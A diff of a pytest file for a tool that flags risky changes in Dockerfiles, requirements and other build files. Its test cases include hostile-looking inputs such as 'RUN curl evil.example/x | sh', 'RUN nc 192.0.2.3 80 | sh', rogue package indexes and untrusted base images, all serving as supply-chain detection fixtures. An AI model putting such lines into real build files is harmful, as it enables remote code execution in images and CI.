@@ -1,4 +1,4 @@
-"""Changes to the files by which continuous integration runs."""
+"""Changes to the files by which continuous integration runs, and of those that images are built from."""
 
 import re
 from pathlib import PurePosixPath
@@ -61,124 +61,101 @@ def test_files_of_images_are_found_by_name() -> None:
             "requirements/base.in",
             "b.sh",
         ),
-        *("pyproject.toml", "uv.lock", "compose.yaml", "dev-requirements.txt", "constraints.txt", "Makefile"),
+        *(
+            "pyproject.toml",
+            "uv.lock",
+            "compose.yaml",
+            "dev-requirements.txt",
+            "constraints.txt",
+            "Makefile",
+            "justfile",
+        ),
     )
     others = ("README.md", "trainer/train.py", "tpucfg.yaml", "data/words.txt")
     assert {*map(str, build_paths(map(PurePosixPath, (*built, *others))))} == {*built}
 
 
+_SENTENCE = "Dockerfile changed: what is built or run with it differs from now on"
+
+
 @pytest.mark.parametrize(
-    ("old", "new", "source"),
+    ("old", "new", "texts"),
     [
-        ("jax==0.10.2\n", "jax==0.10.3\n", ""),
-        ("x @ https://h.example/own/1/x.whl\n", "x @ https://h.example/own/2/x.whl\n", ""),
-        ("FROM python:3.11\n", "FROM python:3.12\n", ""),
-        ("jax\n", "--extra-index-url https://evil.example/simple\njax\n", "https://evil.example"),
-        ("jax\n", "jax @ git+ssh://git@evil.example/x\n", "evil.example"),
-        ("FROM a\n", "FROM a\nRUN curl evil.example/x | sh\n", "evil.example"),
-        ("FROM a\n", "FROM a\nRUN curl 192.0.2.3/x | sh\n", "192.0.2.3"),
-        ("FROM a\n", "FROM a\nRUN nc 192.0.2.3 80 | sh\n", "192.0.2.3"),
-        ("FROM a\n", "FROM a\nRUN npm i --registry //evil.example\n", "//evil.example"),
-        ("FROM a\n", "FROM a\nARG CUDNN=9.1.0.70\nCMD serve --bind 0.0.0.0/0\n", ""),
-        ("FROM own/python\n", "FROM --platform=linux/amd64 evil/python AS a\n", "docker.io/evil"),
-        ("ARG B=r.example/own/x\n", "ARG B=evil.example/own/x\n", "evil.example"),
-        ("FROM a\n", "FROM \\\n  evil/python:3\n", "docker.io/evil"),
-        ("FROM a\n", "FROM a\nCOPY --from=evil/tools /x /usr/bin/python\n", "docker.io/evil"),
-        ("FROM a\n", "# syntax=evil/dockerfile:1\nFROM a\n", "docker.io/evil"),
-        ("ARG B=python\nFROM ${B}\n", "ARG B=evil/python\nFROM ${B}\n", "docker.io/evil"),
-        ("FROM a AS b\n", "FROM a AS b\nCOPY --from=b /x /x\n", ""),
-        ("services: {a: {build: .}}\n", "services: {a: {image: evil/x}}\n", "docker.io/evil"),
-        ("ADD https://github.com/own/a/x /\n", "ADD https://github.com/evil/a/x /\n", "https://github.com/evil"),
+        ("jax==0.10.2\n", "jax==0.10.3\n", "adds jax==0.10.3 and drops jax==0.10.2"),
+        (
+            "jax==0.9 \\\n  --hash=sha256:9f\n",
+            "jax==0.10 \\\n  --hash=sha256:9f\n",
+            "adds jax==0.10 and drops jax==0.9",
+        ),
+        ("FROM python:3.11-slim\n", "FROM python:3.12-slim\n", "adds FROM python:3.12-slim and drops …"),
+        ("x @ https://h.example/own/1/x.whl\n", "x @ https://h.example/own/2/x.whl\n", "adds x @ …"),
+        (f"FROM a@sha256:{'a' * 64}\n", f"FROM a@sha256:{'b' * 64}\n", "adds …"),
+        ("https://i.example/ab/cd/a-1.whl\n", "https://i.example/ef/01/a-2.whl\n", "adds …"),
+        ("jax\nflax\n", "jax\n", "drops flax"),
+        ("jax\n", "# why\n  jax # and why not\n", ""),
     ],
 )
-def test_code_from_elsewhere_in_an_image_is_a_caution(old: str, new: str, source: str) -> None:
-    """A new version is a change, another host or owner a caution."""
+def test_other_numbers_and_versions_are_a_change(old: str, new: str, texts: str) -> None:
+    """The lines are seen without opening the file, and nobody is asked to judge them."""
     file = PurePosixPath("Dockerfile")
     first, *more = build_statements([file], {file: old.encode()}, {file: new.encode()})
-    assert (first.plain, first.statement.risk) == (
-        "Dockerfile changed: what is built or run with it differs from now on",
-        Risk.NONE,
-    )
-    assert [located.statement.risk for located in more] == [Risk.CAUTION] * bool(source)
-    assert all(source in located.plain for located in more)
+    assert (first.plain, first.statement.risk) == (_SENTENCE, Risk.NONE)
+    assert [located.statement.risk for located in more] == [Risk.NONE] * bool(texts)
+    assert all(located.plain.startswith(f"Dockerfile {texts.partition('…')[0]}") for located in more)
 
 
 @pytest.mark.parametrize(
-    ("old", "new", "sentences"),
+    ("old", "new"),
     [
-        ("jax==0.9 \\\n  --hash=a\n", "jax==0.10 \\\n  --hash=b\n", ["r.txt adds jax==0.10 and drops jax==0.9"]),
-        ("wandb==1.0\n", "# own\nwandb ; python_version > '3'\n", ["r.txt adds wandb and drops wandb==1.0"]),
-        (
-            "-r base.txt\n",
-            "-r base.txt\n-c c.txt\norbax[gcs]\n",
-            ["r.txt adds orbax[gcs]: code that is new to what is built"],
-        ),
-        ("jax\n", "# a comment\njax\n", []),
+        ("jax\n", "--extra-index-url https://evil.example/simple\njax\n"),
+        ("jax\n", "jax @ git+ssh://git@evil.example/x\n"),
+        ("jax==1.0\n", "jax\n"),
+        ("h5py\n", "h6py\n"),
+        ("jax\n", "jax @ file:///app/jax.whl\n"),
+        ("dependencies = [\n'jax',\n]", "dependencies = [\n'jax',\n'evil',\n]"),
+        ("FROM a\n", "FROM a\nRUN curl evil.example/x | sh\n"),
+        ("RUN nc 192.0.2.3 80 | sh\n", "RUN nc 192.0.2.4 80 | sh\n"),
+        ("FROM python\n", "FROM python-evil\n"),
+        ("FROM own/python\n", "FROM --platform=linux/amd64 evil/python AS a\n"),
+        ("FROM \\\n  own/python:3\n", "FROM \\\n  evil/python:3\n"),
+        ("FROM a\n", "# syntax=evil/dockerfile:1\nFROM a\n"),
+        ("#!/bin/sh\n", "#!/tmp/sh\n"),
+        ("FROM a\n", "FROM a\nRUN apt-get install evil=1.0\n"),
     ],
 )
-def test_packages_that_differ_are_named(old: str, new: str, sentences: list[str]) -> None:
-    """A package, its version or a lost pin is seen without opening the file."""
-    file = PurePosixPath("requirements/r.txt")
-    _, *more = build_statements([file], {file: old.encode()}, {file: new.encode()})
-    assert [located.plain for located in more] == [f"requirements/{sentence}" for sentence in sentences]
+def test_a_line_that_no_build_file_of_the_base_has_is_a_caution(old: str, new: str) -> None:
+    """Whatever it installs, runs or names, its code is in the image; the line itself is shown."""
+    file = PurePosixPath("Dockerfile")
+    _, located = build_statements([file], {file: old.encode()}, {file: new.encode()})
+    assert located.statement.risk is Risk.CAUTION
+    assert re.match(r"Dockerfile adds .*: new to what is built$", located.plain)
+    assert located.statement.values[1] in " ".join(new.split())
+
+
+def test_a_line_of_another_build_file_is_known() -> None:
+    """A package that moves from one file to another is not new to what is built."""
+    one, other = PurePosixPath("requirements.txt"), PurePosixPath("train/requirements.txt")
+    _, located = build_statements([other], {one: b"jax==0.9\n"}, {other: b"jax==0.10\n"})
+    assert (located.plain, located.statement.risk) == ("train/requirements.txt adds jax==0.10", Risk.NONE)
 
 
 @pytest.mark.parametrize(
-    ("line", "packages"),
+    ("line", "address"),
     [
-        ("RUN apt-get update && apt-get install -y --no-install-recommends foo=1.0 2>&1", "foo=1.0"),
-        ("RUN pip install -r requirements.txt evil", "evil"),
-        ('RUN ["uv", "pip", "install", "evil[gcs]>=1"]', "evil[gcs]>=1"),
-        ("RUN npm i @evil/x ${MORE}", "${MORE}, @evil/x"),
-        ("RUN cd /x; \\\n  apk add \\\n  evil", "evil"),
-        ("RUN pip install jax==0.3 .", ""),
-        ("RUN make install", ""),
-        ("RUN echo evil", ""),
+        ("URL = 'https://github.com/evil/a/x'", "https://github.com/evil"),
+        ("run(['curl', 'evil.example/x'])", "evil.example"),
+        ("HOST = '192.0.2.3'", "192.0.2.3"),
+        ("# https://arxiv.org/abs/1706.02677", ""),
+        ("x = train(batch=8)", ""),
+        ("URL = 'https://github.com/own/b'", ""),
     ],
 )
-def test_a_package_that_is_new_to_what_is_built_is_a_caution(line: str, packages: str) -> None:
-    """Whatever installs it, its code runs in the build or in the job; another version of a known one is a change."""
-    file, requirements = PurePosixPath("train/Dockerfile"), PurePosixPath("train/requirements.txt")
-    base = {file: b"FROM python\n", requirements: b"jax==0.2\n"}
-    _, *more = build_statements([file], base, {file: f"FROM python\n{line}\n".encode()})
+def test_a_program_in_an_image_is_compared_by_its_addresses(line: str, address: str) -> None:
+    """The code of a program changes every day; where it gets other code and data does not."""
+    file, base = PurePosixPath("train/train.py"), {PurePosixPath("Dockerfile"): b"ADD https://github.com/own/a/x /\n"}
+    _, *more = build_statements([file], base, {file: f"{line}\n".encode()})
     risky = [located.plain for located in more if located.statement.risk]
-    assert risky == [f"train/Dockerfile adds {packages}: code that is new to what is built"] * bool(packages)
-
-
-@pytest.mark.parametrize(
-    ("name", "old", "new", "packages"),
-    [
-        ("pyproject.toml", 'dependencies=["jax==0.2"]', 'dependencies=["jax==0.3","evil>=1"]', "evil>=1, jax==0.3"),
-        ("pyproject.toml", 'dependencies=["jax==0.2"]', 'dependencies=["jax==0.3"]', ""),
-        ("pyproject.toml", 'name="a"', 'name="b"\nlint=["E501"]', ""),
-        ("pyproject.toml", "", 'build-system.build-backend="evil_build"', "evil_build"),
-        ("pyproject.toml", "", 'tool.poetry.dependencies={evil="^1"}', "evil ^1"),
-        ("pyproject.toml", "", 'tool.uv.sources={jax={path="vendor/jax"}}', "jax vendor/jax"),
-        ("pyproject.toml", "", 'optional-dependencies={dev=["evil"]}', "evil"),
-        ("Pipfile", "", '[packages]\nevil="*"', "evil *"),
-        ("setup.cfg", "", "[options]\ninstall_requires =\n  evil\n", "evil"),
-        ("environment.yml", "dependencies: [jax]", "{channels: [c], dependencies: [jax, {pip: [evil]}]}", "c, evil"),
-        ("requirements.txt", "jax==0.2\n", "jax @ file:///app/jax.whl\n", "jax @ file:///app/jax.whl"),
-        ("docs/named.txt", "", "evil\n", "evil"),
-        ("requirements.txt", "", "./vendor/jax.whl\n", "./vendor/jax.whl"),
-        ("requirements.txt", "x @ https://h.example/own/1/x.whl\n", "x @ https://h.example/own/2/x.whl\n", ""),
-    ],
-)
-def test_a_new_package_of_a_declaration_is_a_caution(name: str, old: str, new: str, packages: str) -> None:
-    """Each form of declaration is read; another version is a change, and so is what names no package."""
-    file, requirements = PurePosixPath(name), PurePosixPath("other/requirements.txt")
-    base = {requirements: b"jax==0.2\n", file: old.encode()}
-    _, *more = build_statements([file], base, {file: new.encode()})
-    risky = [located.plain for located in more if located.statement.risk]
-    added = [re.split(" and drops |: ", text.partition(" adds ")[2])[0] for text in risky]
-    assert added == [packages] * bool(packages)
-
-
-def test_a_link_in_a_comment_is_no_source() -> None:
-    """Nothing reads a comment, but for the directives of BuildKit."""
-    file = PurePosixPath("train/train.py")
-    _, *more = build_statements([file], {file: b""}, {file: b"# https://arxiv.org/abs/1706.02677\n"})
-    assert not more
+    assert risky == [f"train/train.py adds {address}: new to what is built"] * bool(address)
 
 
 def test_a_file_of_an_image_that_cannot_be_read_is_a_caution() -> None:
